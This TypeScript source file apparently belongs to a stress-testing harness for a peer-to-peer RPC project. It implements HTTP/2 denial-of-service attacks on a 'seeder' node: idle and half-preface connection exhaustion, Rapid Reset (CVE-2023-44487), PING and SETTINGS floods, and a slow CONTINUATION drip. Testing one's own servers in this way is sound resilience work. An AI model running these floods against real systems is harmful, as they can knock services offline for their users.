import { setTimeout as delay } from 'node:timers/promises';
import { frame, FrameType, PREFACE, rstStreamFrame } from '@enjambre/rpc/http2/frames';
import { PeerServiceService } from '@enjambre/proto/gen/enjambre/peer/v1/peer';
import { isUnderWay, type Attack, type Run } from '../attack.js';
import { steadily } from '../flood.js';
import type { RawConnection } from '../raw-connection.js';
import { reach } from '../reach.js';

const CANCEL = 8;
const RETRY_MS = 200;
const BATCH = 100;
const BATCH_MS = 100;

/** Connections to the seeder that send nothing, and as many that send half of the preface; 1,000 a second. */
export const connections: Attack = async (run) => {
  const open = new Set<RawConnection>();
  for (let tried = 0; isUnderWay(run);) {
    if (open.size < run.count) {
      tried += BATCH;
      const batch = Array.from({ length: BATCH }, () => reach(run, run.targets.seeder, { greets: false }));
      for (const connection of await Promise.all(batch)) {
        if (!connection?.isOpen) continue;
        if (open.size % 2) connection.write(PREFACE.subarray(0, 12));
        open.add(connection);
        connection.onClose = () => void open.delete(connection);
      }
    }
    if (open.size >= run.count || tried >= run.count) run.tally.inFullSwing = true;
    await delay(BATCH_MS);
  }
};

/** Streams that are opened and reset at once: CVE-2023-44487. */
export const rapidReset: Attack = (run) =>
  onConnection(run, run.count, (connection) => {
    connection.call(PeerServiceService.sync.path).cancel();
  });

/** PING frames, which have to be answered. */
export const pingFlood: Attack = (run) => {
  const ping = frame({ type: FrameType.ping, flags: 0, stream: 0 }, Buffer.alloc(8, 6));
  return onConnection(run, run.count, (connection) => void connection.write(ping));
};

/** SETTINGS frames, which have to be acknowledged, and resets of streams that were never opened. */
export const settingsFlood: Attack = (run) => {
  const settings = frame(
    { type: FrameType.settings, flags: 0, stream: 0 },
    Buffer.from([0, 4, 0, 0, 0xff, 0xff]),
  );
  return onConnection(
    run,
    run.count,
    (connection, number) => void connection.write(number % 2 ? settings : rstStreamFrame(1, CANCEL)),
  );
};

/** Sync streams that never say hello, and header blocks that never end, one byte a second. */
export const slowHellos: Attack = async (run) => {
  const open: RawConnection[] = [];
  const streams = 20;
  while (open.length * streams < run.count && isUnderWay(run)) {
    const connection = await reach(run, run.targets.seeder);
    if (!connection) break;
    open.push(connection);
    for (let number = 0; number < streams; number++) connection.call(PeerServiceService.sync.path);
    connection.write(frame({ type: FrameType.headers, flags: 0, stream: 2 * streams + 1 }, Buffer.from([0])));
  }
  run.tally.inFullSwing = true;
  const drip = frame({ type: FrameType.continuation, flags: 0, stream: 2 * streams + 1 }, Buffer.from([0]));
  await steadily(run, 1, () => {
    for (const connection of open) connection.write(drip);
  });
};

/** Sends frames at a rate, on a new connection when one is closed. */
async function onConnection(
  run: Run,
  perSecond: number,
  act: (connection: RawConnection, number: number) => void,
): Promise<void> {
  let connection = await reach(run, run.targets.seeder);
  run.tally.inFullSwing = true;
  let reached = performance.now();
  await steadily(run, perSecond, async (number) => {
    if (!connection?.isOpen && performance.now() - reached > RETRY_MS) {
      connection = await reach(run, run.targets.seeder);
      reached = performance.now();
    }
    // A victim that does not read must not fill the attacker's memory.
    if (connection?.isOpen && connection.socket.writableLength < 1 << 20) {
      act(connection, number);
      run.tally.fact('frames');
    }
  });
  connection?.close();
}
